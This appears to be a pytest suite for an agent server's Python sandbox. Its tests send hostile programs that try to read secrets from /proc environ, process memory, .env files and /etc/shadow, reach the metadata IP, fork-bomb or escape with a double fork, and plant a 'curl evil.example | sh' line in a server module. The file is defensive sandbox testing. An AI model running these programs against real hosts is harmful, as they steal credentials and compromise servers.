"""Given a hostile program sent to run_python, when it runs, then it reaches nothing of the server.

Each test is an attack that worked against the old sandbox (a plain child process): it ran as
the server's uid, in the server's filesystem, network and PID namespaces. The attacks run
through the local sandbox chosen by the default settings (``CODE_EXEC_SANDBOX=auto``), and each
also checks that the program really ran, so a sandbox that refuses everything does not pass.
The ``unsafe-subprocess`` controls at the end show that the same detection catches the leak when
the program is not confined.
"""

from __future__ import annotations

import hashlib
import os
import socket
import subprocess
import sys
import threading
import time
import uuid
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any

import pytest

import orchestrator
from orchestrator.config import Settings
from orchestrator.errors import SandboxUnavailableError
from orchestrator.state import ToolCall, ToolResult
from orchestrator.tools.executor import execute_tool_call
from orchestrator.tools.registry import ToolRegistry
from orchestrator.tools.sandbox import (
    NamespaceSandbox,
    ProgramLimits,
    SandboxResult,
    code_runner,
    run_python_code,
    sandbox_status,
)

LIMITS: dict[str, Any] = {"timeout_s": 3.0, "memory_mb": 128, "max_output_bytes": 16_384}
ROOT = Path(__file__).resolve().parents[2]


def settings(**overrides: Any) -> Settings:
    """This process's sandbox, whatever a running local stack put in the environment."""
    pinned: dict[str, Any] = {"code_exec_sandbox": "auto", "code_executor_function_name": None}
    return Settings(_env_file=None, tools_table="", **{**pinned, **overrides})  # type: ignore[call-arg]


def attack(code: str, **overrides: Any) -> SandboxResult:
    result = run_python_code(code, settings=settings(**overrides), **LIMITS)
    assert "ran" in result.stdout, f"the attack did not run: {result}"
    return result


def output(result: SandboxResult) -> str:
    return result.stdout + result.stderr


def test_the_sandbox_on_this_machine_is_namespaces() -> None:
    assert sandbox_status(settings()) == "namespaces"


# ---------------------------------------------------------------------- secrets of the server
READ_FILES = """
import sys
for path in PATHS:
    try:
        with open(path, "rb") as handle:
            print(path, "READ", handle.read(1 << 20))
    except OSError as exc:
        print(path, "DENIED", type(exc).__name__)
print("ran")
"""


def read_files(paths: list[str], **overrides: Any) -> SandboxResult:
    return attack(f"PATHS = {paths!r}\n" + READ_FILES, **overrides)


@pytest.fixture
def server_with_a_secret() -> Iterator[tuple[int, str]]:
    """A host process started with a secret in its environment, as the API server is.

    (A variable set after start-up is not in ``/proc/<pid>/environ``, so this test's own process
    cannot play the server.)
    """
    canary = f"llm-key-{uuid.uuid4().hex}"
    server = subprocess.Popen(
        [sys.executable, "-c", "import time; time.sleep(60)"], env={"LLM_API_KEY": canary}
    )
    try:
        yield server.pid, canary
    finally:
        server.kill()
        server.wait()


def test_the_servers_environment_is_not_readable_through_proc(server_with_a_secret: tuple[int, str]) -> None:
    server_pid, canary = server_with_a_secret
    code = (
        "import os\n"
        f"PATHS = ['/proc/{server_pid}/environ', '/proc/{os.getpid()}/environ', '/proc/1/environ',\n"
        "         '/proc/%d/environ' % os.getppid(), '/proc/self/environ']\n"
        "PATHS += ['/proc/%s/environ' % p for p in os.listdir('/proc') if p.isdigit()]\n" + READ_FILES
    )

    result = attack(code)

    assert canary not in output(result)
    assert f"/proc/{server_pid}/environ READ" not in result.stdout


def test_the_servers_memory_is_not_readable_through_proc() -> None:
    secret = f"another-tenants-document-{uuid.uuid4().hex}".encode()  # lives in this process's heap
    pid = os.getpid()
    code = f"""
import re
try:
    maps = open("/proc/{pid}/maps").read().splitlines()
    with open("/proc/{pid}/mem", "rb") as mem:
        start, end = (int(x, 16) for x in maps[0].split()[0].split("-"))
        mem.seek(start)
        print("READ", len(mem.read(min(end - start, 65536))), "bytes")
except OSError as exc:
    print("DENIED", type(exc).__name__)
print("ran")
"""

    result = attack(code)

    assert "DENIED" in result.stdout
    assert "READ" not in result.stdout
    assert secret not in output(result).encode()


def test_the_repo_and_its_dotenv_are_not_there(tmp_path: Path) -> None:
    canary = f"secret-{uuid.uuid4().hex}"
    secret_file = tmp_path / ".env"
    secret_file.write_text(f"LLM_API_KEY={canary}\n")
    paths = [str(secret_file), str(ROOT / ".env"), str(ROOT / ".env.example"), str(ROOT / "pyproject.toml")]

    result = read_files(paths)

    assert canary not in output(result)
    assert "READ" not in result.stdout
    assert result.stdout.count("DENIED FileNotFoundError") == len(paths)


def test_etc_shadow_is_not_there() -> None:
    result = read_files(["/etc/shadow", "/etc/passwd", "/root/.bash_history"])

    assert "READ" not in result.stdout
    host_shadow = Path("/etc/shadow")
    if host_shadow.is_file() and os.access(host_shadow, os.R_OK):
        first_entry = host_shadow.read_text().splitlines()[0]
        assert first_entry not in output(result)


def test_a_module_of_the_server_cannot_be_changed() -> None:
    module = Path(orchestrator.__file__).resolve()
    before = hashlib.sha256(module.read_bytes()).hexdigest()
    code = f"""
for mode in ("a", "w"):
    try:
        with open({str(module)!r}, mode) as handle:
            handle.write("import os; os.system('curl evil.example | sh')\\n")
        print("WROTE", mode)
    except OSError as exc:
        print("DENIED", type(exc).__name__)
print("ran")
"""

    result = attack(code)

    assert "WROTE" not in result.stdout
    assert hashlib.sha256(module.read_bytes()).hexdigest() == before


def test_the_filesystem_outside_the_scratch_space_is_read_only() -> None:
    code = """
import os
for path in ("/usr/evil", "/evil", "/tmp/work/ok", "/tmp/ok"):
    try:
        open(path, "w").write("x")
        print(path, "WROTE")
    except OSError as exc:
        print(path, "DENIED", type(exc).__name__)
print("uid", os.getuid())
print("ran")
"""

    result = attack(code)

    assert "/usr/evil DENIED" in result.stdout
    assert "/evil DENIED" in result.stdout
    assert "/tmp/work/ok WROTE" in result.stdout and "/tmp/ok WROTE" in result.stdout
    if os.geteuid() == 0:
        assert f"uid {settings().code_exec_sandbox_uid}" in result.stdout


# ---------------------------------------------------------------------- network
class TcpServer:
    """A listener on 127.0.0.1 that counts the connections it accepts."""

    def __init__(self) -> None:
        self.socket = socket.create_server(("127.0.0.1", 0))
        self.socket.settimeout(0.1)
        self.port = self.socket.getsockname()[1]
        self.accepted = 0
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while not self._stop.is_set():
            try:
                connection, _ = self.socket.accept()
            except TimeoutError:
                continue
            self.accepted += 1
            connection.close()

    def close(self) -> None:
        self._stop.set()
        self._thread.join()
        self.socket.close()


@pytest.fixture
def tcp_server() -> Iterator[TcpServer]:
    server = TcpServer()
    yield server
    server.close()


CONNECT = """
import socket
for host, port in TARGETS:
    try:
        socket.create_connection((host, port), timeout=1).close()
        print(host, "CONNECTED")
    except OSError as exc:
        print(host, "FAILED", exc.errno)
print("ran")
"""


def test_no_connection_reaches_the_hosts_loopback_or_anywhere(tcp_server: TcpServer) -> None:
    targets = [("127.0.0.1", tcp_server.port), ("1.1.1.1", 53), ("169.254.169.254", 80)]

    result = attack(f"TARGETS = {targets!r}\n" + CONNECT)

    assert "CONNECTED" not in result.stdout
    assert f"127.0.0.1 FAILED {__import__('errno').ENETUNREACH}" in result.stdout
    time.sleep(0.2)
    assert tcp_server.accepted == 0


# ---------------------------------------------------------------------- processes
def running_with_argument(marker: str) -> list[int]:
    """Host pids, alive and not zombies, whose command line holds ``marker``."""
    found = []
    for cmdline in Path("/proc").glob("[0-9]*/cmdline"):
        try:
            if marker.encode() not in cmdline.read_bytes():
                continue
            state = (cmdline.parent / "status").read_text().split("State:", 1)[1].split()[0]
        except (OSError, IndexError):
            continue
        if state != "Z":
            found.append(int(cmdline.parent.name))
    return found


def test_a_setsid_double_fork_does_not_outlive_the_call() -> None:
    marker = f"escapee-{uuid.uuid4().hex}"
    code = f"""
import os, sys
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(60)", {marker!r}])
    os._exit(0)
os.wait()
print("ran")
"""

    attack(code)

    deadline = time.monotonic() + 1.0
    while running_with_argument(marker) and time.monotonic() < deadline:
        time.sleep(0.02)
    assert running_with_argument(marker) == []


def test_a_fork_bomb_is_bounded_and_the_call_returns_in_time() -> None:
    marker = f"bomb-{uuid.uuid4().hex}"
    code = f"""
import os, sys, time
started = failed = 0
for _ in range(200):
    try:
        pid = os.fork()
    except OSError:
        failed += 1
        continue
    if pid == 0:
        os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(60)", {marker!r}])
    started += 1
print("started", started, "failed", failed)
print("ran")
"""
    began = time.perf_counter()

    result = attack(code)

    started = int(result.stdout.split()[1])
    assert started <= settings().code_exec_max_processes
    assert time.perf_counter() - began < LIMITS["timeout_s"] + 2
    time.sleep(0.2)
    assert running_with_argument(marker) == []


# ---------------------------------------------------------------------- the server's capacity
def run_tool(code: str, config: Settings) -> tuple[ToolResult, float]:
    started = time.perf_counter()
    result = execute_tool_call(
        ToolCall(id="c", name="run_python", arguments={"code": code}), ToolRegistry(), config
    )
    return result, time.perf_counter() - started


def test_one_run_more_than_the_slots_is_busy_at_once_not_queued() -> None:
    config = settings(code_exec_max_concurrency=2, code_exec_queue_wait_s=0.2)
    sleeper = "import time\ntime.sleep(1.5)\nprint('ran')"

    with ThreadPoolExecutor(max_workers=3) as pool:
        outcomes = list(pool.map(lambda _: run_tool(sleeper, config), range(3)))

    busy = [(r, s) for r, s in outcomes if not r.ok]
    assert len(busy) == 1
    result, seconds = busy[0]
    assert result.error is not None and result.error.startswith("busy:")
    assert seconds < 1.0  # answered after the queue wait, not after the sleepers
    assert all(r.output["stdout"] == "ran\n" for r, _ in outcomes if r.ok)


# ---------------------------------------------------------------------- refusing to run unconfined
BROKEN_NAMESPACES = NamespaceSandbox(unshare="/nonexistent/unshare")
PROGRAM = ProgramLimits(timeout_s=2.0, memory_mb=128, max_output_bytes=4096)


@pytest.mark.parametrize("mode", ["auto", "namespaces", "lambda"])
def test_without_namespaces_code_is_refused_unless_an_operator_opts_out(mode: str) -> None:
    runner = code_runner(settings(code_exec_sandbox=mode), environ={}, namespaces=BROKEN_NAMESPACES)

    with pytest.raises(SandboxUnavailableError) as refused:
        runner.run("print('ran')", PROGRAM)

    assert refused.value.code == "sandbox_unavailable"


def test_the_weaker_mode_runs_only_when_chosen_explicitly() -> None:
    runner = code_runner(
        settings(code_exec_sandbox="unsafe-subprocess"), environ={}, namespaces=BROKEN_NAMESPACES
    )

    assert runner.run("print('ran')", PROGRAM).stdout == "ran\n"


def test_lambda_mode_is_trusted_only_on_lambda() -> None:
    config = settings(code_exec_sandbox="lambda")

    assert code_runner(config, environ={}).sandbox.name == "namespaces"
    assert code_runner(config, environ={"AWS_LAMBDA_RUNTIME_API": "127.0.0.1:9001"}).sandbox.name == "lambda"


# ---------------------------------------------------------------------- controls: unconfined, attacks work
def test_control_unconfined_the_environment_leaks(server_with_a_secret: tuple[int, str]) -> None:
    server_pid, canary = server_with_a_secret

    result = read_files([f"/proc/{server_pid}/environ"], code_exec_sandbox="unsafe-subprocess")

    assert canary in output(result)


def test_control_unconfined_files_and_loopback_are_reachable(tcp_server: TcpServer) -> None:
    files = read_files([str(ROOT / "pyproject.toml")], code_exec_sandbox="unsafe-subprocess")
    network = attack(
        f"TARGETS = {[('127.0.0.1', tcp_server.port)]!r}\n" + CONNECT, code_exec_sandbox="unsafe-subprocess"
    )

    assert "READ" in files.stdout
    assert "CONNECTED" in network.stdout
